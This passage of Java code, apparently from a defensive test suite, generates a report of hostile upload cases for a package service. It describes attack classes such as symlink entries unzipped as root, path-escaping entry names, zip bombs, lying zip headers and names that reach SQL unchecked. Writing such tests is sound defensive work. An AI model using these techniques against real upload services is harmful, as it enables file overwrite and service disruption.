                        and its object may stay under `staging/` until the sweeper removes it), `packageName` (null: a fresh
                        package), `version`, `manifest` (the exact bytes sent) and `files` (manifest name, path, claimed sha256).
                        Every case is an otherwise valid upload with one defect: zips carry install.sh and uninstall.sh, and
                        manifests name each file with its sha256 unless the case is about that.

                        """);
        for (var kind : KINDS.entrySet()) {
            List<HostileCase> ofKind = cases.stream().filter(c -> c.kind().equals(kind.getKey())).toList();
            text.append("## ").append(kind.getKey()).append(" (").append(ofKind.size()).append(")\n\n")
                    .append(kind.getValue()).append("\n\n")
                    .append("| case | kind | what it attacks | expected | flows |\n| --- | --- | --- | --- | --- |\n");
            for (HostileCase c : ofKind) {
                text.append("| `").append(c.id()).append("` | ").append(c.kind()).append(" | ")
                        .append(c.attack().replace("|", "\\|")).append(" | `")
                        .append(c.expected()).append("` | ").append(String.join(", ", c.flows())).append(" |\n");
            }
            text.append("\n");
        }
        text.append("Total: ").append(cases.size()).append(" cases.\n");
        return text.toString();
    }

    private static Map<String, String> kinds() {
        var kinds = new LinkedHashMap<String, String>();
        kinds.put("symlink", "Symbolic-link entries: `unzip` on a host creates the link and follows it, as root.");
        kinds.put("structure", "Zip structure the central directory hides from a reader that looks only there: "
                + "duplicates, local headers that disagree, overlapping entries, lying sizes and CRCs, encryption, "
                + "unknown methods.");
        kinds.put("entry-name", "Entry names that leave the package folder or mean different files to different "
                + "readers.");
        kinds.put("zip-bomb", "Archives that expand past the limits (1 GiB expanded, 10,000 entries by default).");
        kinds.put("not-a-zip", "Bytes that are not one well-formed zip.");
        kinds.put("missing-script", "Well-formed zips without the scripts the platform needs at their root.");
        kinds.put("checksum", "Bytes that do not hash to the sha256 the manifest names.");
        kinds.put("manifest", "Manifests the service must refuse, or store byte for byte: invalid UTF-8, control "
                + "and bidi characters, wrong versions and schemas, path-like keys, unlisted files, deep or huge "
                + "JSON.");
        kinds.put("name", "Package and version names that would become paths on hosts or reach SQL unchecked.");
        return kinds;
    }
}
